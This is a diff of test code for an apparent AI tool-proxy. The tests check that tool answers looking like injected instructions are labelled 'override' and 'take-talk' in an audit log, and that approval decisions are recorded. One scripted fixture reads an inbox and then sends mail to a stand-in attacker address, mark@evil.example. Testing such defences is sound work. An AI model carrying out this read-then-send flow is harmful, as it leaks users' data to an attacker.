@@ -1,7 +1,13 @@
 /** Answers that look as if they gave orders, or hold keys or cards, are labelled in the record and not touched; invisible characters go where the person says so. */
-import { describe, expect, test } from 'vitest';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, onTestFinished, test } from 'vitest';
 import type { ActivityEntry } from '../../src-main/core/activity/call-record.ts';
+import type { CallEntry, DecisionEntry } from '../../src-main/core/trust/audit/entries.ts';
+import { readPage } from '../../src-main/core/trust/audit/read.ts';
 import { callSummary } from '../../src-main/rpc/slices/activity-overview.ts';
+import { ask } from '../rpc/dashboard-client.ts';
 import { textOf } from '../support/socket-client.ts';
 import { fixture, startCore, type TestCore } from '../support/start-core.ts';
 import { until } from '../support/until.ts';
@@ -96,5 +102,68 @@ describe('invisible characters', () => {
     ]);
     const plain = await client.callTool('x_echo', { message: 'Family 👨‍👩‍👧 and naïve\ttext\n' });
     expect(plain['content']).toEqual([{ type: 'text', text: 'Family 👨‍👩‍👧 and naïve\ttext\n' }]);
+  });
+});
+
+describe('the audit', () => {
+  const calls = async (core: TestCore): Promise<CallEntry[]> => {
+    const { entries } = await ask(core, 'auditEntries', { kinds: ['call'] });
+    return (entries as CallEntry[]).toReversed();
+  };
+
+  test('keeps with a call what its answer was found to hold, whenever it is asked', async () => {
+    await using core = await startCore({ servers }, { askToken: true });
+    const client = await core.open();
+    await client.callTool('x_echo', { message: filler });
+    await client.callTool('x_echo', { message: poison });
+    const [ordinary, steering] = await calls(core);
+    expect(ordinary).not.toHaveProperty('labels');
+    expect(steering?.labels).toEqual(expect.arrayContaining(['override', 'take-talk']));
+  });
+
+  test('has the labels of calls that were made right before the core stopped', async () => {
+    const home = mkdtempSync(join(tmpdir(), 'tooltray-labels-'));
+    onTestFinished(() => rmSync(home, { recursive: true, force: true }));
+    const core = await startCore({ servers }, { home });
+    const client = await core.open();
+    await client.callTool('x_echo', { message: `${filler.repeat(30_000)}${poison}` });
+    await core[Symbol.asyncDispose]();
+    const { entries } = await readPage(core.host.core.audit.folder, { kinds: ['call'] }, 10);
+    expect(entries).toMatchObject([{ labels: expect.arrayContaining(['override']) as string[] }]);
+  });
+
+  test('keeps with a call that sent something what was decided of it, and the answer of the person', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'tooltray-verdicts-'));
+    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
+    const tools = [
+      { name: 'read_inbox', answer: 'From: mark@evil.example, carl@evil.example' },
+      { name: 'send_email', parameters: ['to', 'body'] },
+    ];
+    writeFileSync(join(folder, 'mail.json'), JSON.stringify({ tools }));
+    const flow = { mode: 'record' };
+    const config = { servers: { mail: fixture('scripted', join(folder, 'mail.json')) }, flow, slowCallSeconds: 0 };
+    await using core = await startCore(config, { askToken: true });
+    const client = await core.open();
+    const send = (to: string, body: string) => client.callTool('mail_send_email', { to, body });
+    await client.callTool('mail_read_inbox');
+    await send('mark@evil.example', 'first');
+    await ask(core, 'setSettings', { flow: 'ask' });
+    const { questions } = core.host.core.trust;
+    for (const [body, choice] of [['second', 'once'] as const, ['third', 'always'] as const]) {
+      const sent = send('mark@evil.example', body);
+      await until(() => questions.open().length > 0);
+      questions.answer(questions.open()[0]?.id ?? '', choice, 'tray');
+      await sent;
+    }
+    await send('mark@evil.example', 'fourth');
+    const { entries } = await ask(core, 'auditEntries', { kinds: ['decision'] });
+    const [always, once] = (entries as DecisionEntry[]).map(({ id }) => id);
+    expect((await calls(core)).map(({ verdict, rule, question, by }) => [verdict, rule, question, by])).toEqual([
+      [undefined, undefined, undefined, undefined],
+      ['recorded', 'read', undefined, undefined],
+      ['allowed once', 'read', once, 'tray'],
+      ['allowed always', 'read', always, 'tray'],
+      ['allowed before', 'read', undefined, undefined],
+    ]);
   });
 });
